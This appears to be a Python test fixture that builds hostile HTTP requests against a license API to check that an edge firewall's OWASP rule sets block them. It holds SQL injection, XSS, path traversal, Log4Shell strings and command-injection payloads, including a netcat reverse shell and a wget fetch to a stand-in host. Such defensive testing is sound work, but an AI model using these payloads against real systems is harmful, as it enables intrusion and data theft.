"""Attacks that an edge must refuse, each with the OWASP rule set that knows it."""

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final
from urllib.parse import quote

from deploy.traffic.calls import Call, json_call

_ACQUIRE: Final = "/api/v1/licenses/acquire/"
_LICENSES: Final = "/api/v1/licenses/"
_BROWSER: Final = {
    "user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"
}
SCANNERS: Final = (
    "sqlmap/1.8.4#stable",
    "Nikto/2.5.0",
    "masscan/1.3",
    "Nmap Scripting Engine",
    "w3af.org",
)


@dataclass(frozen=True)
class Attack:
    """A call, and the rule set whose business it is."""

    rule_set: str
    call: Call

    @property
    def name(self) -> str:
        return f"{self.rule_set}: {self.call.name}"


_IN_QUERIES: Final = {
    "sqli": (
        "x' or 1=1--",
        "1 union select login, password from auth_user--",
        "'; drop table licenses; --",
        "1' and sleep(5)#",
    ),
    "xss": ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>"),
    "lfi": ("../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow"),
    "rfi": ("http://203.0.113.5/shell.txt?", "https://203.0.113.5/x.php?cmd="),
    "rce": (";cat /etc/passwd", "$(wget http://203.0.113.5/x)", "| /bin/bash -i"),
    "protocolattack": ("a\r\nSet-Cookie: sessionid=stolen", "x\r\nGET /admin/ HTTP/1.1"),
    "sessionfixation": ("<script>document.cookie='sessionid=1; path=/'</script>",),
}
_IN_BODIES: Final = {
    "sqli": ("x' union select password from auth_user--", "laptop' or '1'='1"),
    "xss": ("<script>fetch('//203.0.113.5')</script>",),
    "lfi": ("../../../../etc/passwd",),
    "rce": ("; nc -e /bin/sh 203.0.113.5 4444", "`id; uname -a`"),
}
_JNDI: Final = ("${jndi:ldap://203.0.113.5/a}", "${${lower:j}ndi:${lower:l}dap://203.0.113.5/a}")


def attacks() -> Iterator[Attack]:
    """Give every attack of the table."""
    for rule_set, payloads in _IN_QUERIES.items():
        for payload in payloads:
            yield Attack(rule_set, _in_query(payload))
    for rule_set, payloads in _IN_BODIES.items():
        for payload in payloads:
            yield Attack(rule_set, in_hardware_id(payload))
    for agent in SCANNERS:
        yield Attack("scannerdetection", _from_agent(agent))
    yield from _log4shell()


def in_hardware_id(payload: str, *, key: str = "CDT1-0123K-5TYWF-QG4M9-N8ZXA-RJDV2-7C1HB") -> Call:
    """Return an acquire whose device has a hostile name."""
    body = {"license_key": key, "hardware_id": payload}
    return json_call(f"acquire {payload}", "POST", _ACQUIRE, body)


def _in_query(payload: str) -> Call:
    target = f"{_LICENSES}?search={quote(payload, safe='')}"
    return Call(name=f"query {payload!r}", target=target, headers=_BROWSER)


def _from_agent(agent: str) -> Call:
    return Call(name=f"agent {agent}", target=_LICENSES, headers={"user-agent": agent})


def _log4shell() -> Iterator[Attack]:
    for payload in _JNDI:
        yield Attack("cve-canary", in_hardware_id(payload))
        yield Attack("cve-canary", _in_query(payload))
        headers = {**_BROWSER, "x-api-version": payload}
        yield Attack(
            "cve-canary", Call(name=f"header {payload}", target=_LICENSES, headers=headers)
        )
